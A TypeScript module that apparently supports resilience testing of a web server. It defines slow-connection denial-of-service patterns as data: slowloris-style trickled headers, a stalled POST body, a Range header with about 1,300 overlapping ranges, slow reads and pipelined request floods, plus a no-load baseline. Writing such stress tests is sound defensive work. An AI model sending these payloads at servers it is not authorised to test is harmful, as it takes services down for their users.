// The slow attacks, one connection each: what it says once it is there, what it says again every second, and how it reads.
// They differ in what they leave unfinished. Pure.

export interface Attack {
  readonly name: string;
  /** Whether it does its TLS handshake. */
  readonly isSecured: boolean;
  first(host: string, asset: string): string;
  readonly everySecond: string;
  /** Takes what comes; or as little as it can. */
  readonly reads: boolean;
}

const head = (method: string, path: string, host: string, lines: readonly string[] = []) =>
  [`${method} ${path} HTTP/1.1`, `Host: ${host}`, ...lines].join('\r\n');
const nothing = () => '';
const ranges = Array.from({ length: 1300 }, (_, n) => `5-${n}`).join(',');

/** Nobody comes; to know what the computer does without. */
export const peace: Attack = {
  name: 'peace',
  isSecured: false,
  first: nothing,
  everySecond: '',
  reads: true,
};

export const attacks: readonly Attack[] = [
  { name: 'no handshake', isSecured: false, first: nothing, everySecond: '', reads: true },
  { name: 'idle TLS', isSecured: true, first: nothing, everySecond: '', reads: true },
  {
    name: 'slow head',
    ...{ isSecured: true, everySecond: 'X-Slow: 1\r\n', reads: true },
    first: (host) => `${head('GET', '/healthz', host)}\r\n`,
  },
  {
    name: 'slow body',
    ...{ isSecured: true, everySecond: ' ', reads: true },
    first: (host) => {
      const lines = ['Content-Type: application/json', 'Content-Length: 60000', '', '{'];
      return head('POST', '/auth/challenge', host, lines);
    },
  },
  {
    name: 'ranges',
    ...{ isSecured: true, everySecond: '', reads: true },
    first: (host, asset) => head('GET', asset, host, [`Range: bytes=0-,${ranges}`, '', '']),
  },
  {
    name: 'slow read',
    ...{ isSecured: true, everySecond: '', reads: false },
    first: (host, asset) => head('GET', asset, host, ['Accept-Encoding: identity', '', '']).repeat(4),
  },
  {
    name: 'all at once',
    ...{ isSecured: true, everySecond: '', reads: false },
    first: (host, asset) => head('GET', asset, host, ['Accept-Encoding: identity', '', '']).repeat(50),
  },
];
